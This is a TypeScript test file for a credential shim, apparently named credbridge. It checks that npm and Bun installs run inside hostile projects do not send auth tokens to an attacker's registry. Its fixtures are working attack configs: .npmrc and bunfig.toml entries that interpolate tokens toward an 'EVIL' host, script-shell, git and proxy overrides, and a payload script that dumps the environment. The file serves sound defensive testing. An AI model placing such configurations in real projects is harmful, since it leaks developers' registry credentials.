import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { attacked } from './npm-attack.ts'
import { needsNpmClients } from './npm-world.ts'

/*
 * A hostile project, and the registry that belongs to its author: real managers of packages are started in it. What the
 * author's registry hears is looked at, not what the managers say. That each attack works on a token in the environment
 * is shown first, so that silence means something.
 */

/** What would be a hole, if the variable had a name that can be guessed. */
const interpolated = {
  npm: { '.npmrc': 'registry=http:EVIL/\nEVIL/:_authToken=${npm_config_GOOD/:_authToken}\n' },
  bun: { '.npmrc': 'registry=http:EVIL/\nEVIL/:_authToken=${npm_config_GOOD/:_authToken}\n' },
  bunfig: { 'bunfig.toml': '[install]\nregistry = { url = "http:EVIL/", token = "$npm_config_GOOD/:_authToken" }\n' },
}

needsNpmClients('a hostile project', () => {
  test('npm: the attack works on a variable with a name that can be guessed', async () => {
    const it = await attacked('npm', 'npm')
    it.project(interpolated.npm)
    const { origin } = it.world.registry
    const env = { ...it.world.env, [`npm_config_${origin.slice('http:'.length)}/:_authToken`]: it.token }
    await it.world.run('app', 'npm', ['install', 'tiny'], { env })
    expect(it.evil.heard).toContain(`Bearer ${it.token}`)
  })

  describe('npm, through our shim', () => {
    test.each([
      ['another host’s token', 2, interpolated.npm],
      ['our variable', 1, { '.npmrc': 'EVIL/:_authToken=${CREDBRIDGE_0123456789ABCDEF0123456789ABCDEF}\n' }],
      ['a store of ours', 1, { '.npmrc': 'EVIL/:_authToken=${CREDBRIDGE_STORE}\n' }],
      [
        'a file of the project’s as the machine’s',
        1,
        { '.npmrc': 'globalconfig=./evil\n', evil: 'strict-ssl=false\n' },
      ],
      ['a proxy of its own', 1, { '.npmrc': 'proxy=http:EVIL/\n' }],
      ['a program for git', 1, { '.npmrc': 'git=HOME/app/evil\n' }],
      ['a shell', 1, { '.npmrc': 'script-shell=./evil\n' }],
    ])('%s: refused, and line %i of the file is named', async (_name, line, files) => {
      const it = await attacked('npm', 'npm')
      await it.world.well('', 'credbridge', ['setup', 'npm'])
      it.project({ ...files, evil: '#!/bin/sh\nenv >HOME/ran\n' })
      const outcome = await it.world.run('app', 'npm', ['install', 'tiny'])
      expect(outcome).toMatchObject({
        exitCode: 2,
        stderr: expect.stringContaining(`${join(it.world.home, 'app', '.npmrc')}, line ${line}: `),
      })
      expect([it.evil.everything, existsSync(join(it.world.home, 'ran'))]).toEqual([[], false])
    })

    test.each([
      ['a registry that nobody enabled', { '.npmrc': 'registry=http:EVIL/\n' }],
      ['a user’s configuration of its own', { '.npmrc': 'registry=http:EVIL/\nuserconfig=./mine\n' }],
      [
        'settings of ours in the project',
        {
          '.npmrc': 'registry=http:EVIL/\n',
          'credbridge.toml': 'store = "helper:evil"\n[aliases]\n"EVIL" = "GOOD"\n',
          '.credbridge/config.toml': 'store = "helper:evil"\n',
          'docker-credential-evil': '#!/bin/sh\nenv >HOME/ran\n',
        },
      ],
    ])('%s: npm starts, and its author hears no token', async (_name, files) => {
      const it = await attacked('npm', 'npm')
      await it.world.well('', 'credbridge', ['setup', 'npm'])
      it.project(files)
      await it.world.run('app', 'npm', ['install', '@evil/tiny', '--fetch-retries=0'])
      expect(it.evil.everything.length).toBeGreaterThan(0)
      expect([it.heard(), existsSync(join(it.world.home, 'ran'))]).toEqual([false, false])
    })

    test('packages that lie elsewhere: the token goes to its own registry, and to that alone', async () => {
      const it = await attacked('npm', 'npm')
      await it.world.well('', 'credbridge', ['setup', 'npm'])
      it.project({
        '.npmrc': 'registry=http:GOOD/\n@evil:registry=http:EVIL/\n',
        'package.json': '{ "name": "app", "dependencies": { "@evil/a": "1", "b": "http:EVIL/b.tgz" } }',
      })
      await it.world.run('app', 'npm', ['install', 'tiny', '--fetch-retries=0'])
      await it.world.run('app', 'npm', ['install', '@evil/a', '--fetch-retries=0'])
      expect(it.good.heard).toContain(`Bearer ${it.token}`)
      expect(it.evil.everything.length).toBeGreaterThan(0)
      expect(it.heard()).toBe(false)
    })
  })

  test('Bun: the attack works on a variable with a name that can be guessed', async () => {
    const it = await attacked('bun', 'bun')
    it.project({ '.npmrc': 'registry=http:EVIL/\nEVIL/:_authToken=${NPM_TOKEN}\n' })
    await it.world.run('app', 'bun', ['add', 'tiny'], { env: { ...it.world.env, NPM_TOKEN: it.token } })
    expect(it.evil.heard).toContain(`Bearer ${it.token}`)
  })

  describe('Bun, by credbridge run', () => {
    test.each([
      ['.npmrc', interpolated.bun],
      ['bunfig.toml', interpolated.bunfig],
      ['bunfig.toml', { 'bunfig.toml': '[install.scopes]\nx = { url = "http:EVIL/", token = "$CREDBRIDGE_STORE" }\n' }],
      ['bunfig.toml', { 'bunfig.toml': '[install.security]\nscanner = "evil"\n' }],
      ['.env', { '.env': 'HTTP_PROXY=http:EVIL/\n' }],
    ])('%s: refused by name', async (file, files) => {
      const it = await attacked('bun', 'bun')
      it.project(files)
      expect(await it.world.run('app', 'credbridge', ['run', '--', 'bun', 'add', 'tiny'])).toMatchObject({
        exitCode: 2,
        stderr: expect.stringContaining(`${join(it.world.home, 'app', file)}, line `),
      })
      expect(it.evil.everything).toEqual([])
    })

    test('a registry that nobody enabled gets nothing', async () => {
      const it = await attacked('bun', 'bun')
      it.project({ 'bunfig.toml': '[install.scopes]\nevil = "http:EVIL/"\n' })
      await it.world.run('app', 'credbridge', ['run', '--', 'bun', 'add', '@evil/tiny'])
      expect(it.evil.everything.length).toBeGreaterThan(0)
      expect(it.heard()).toBe(false)
    })
  })
})
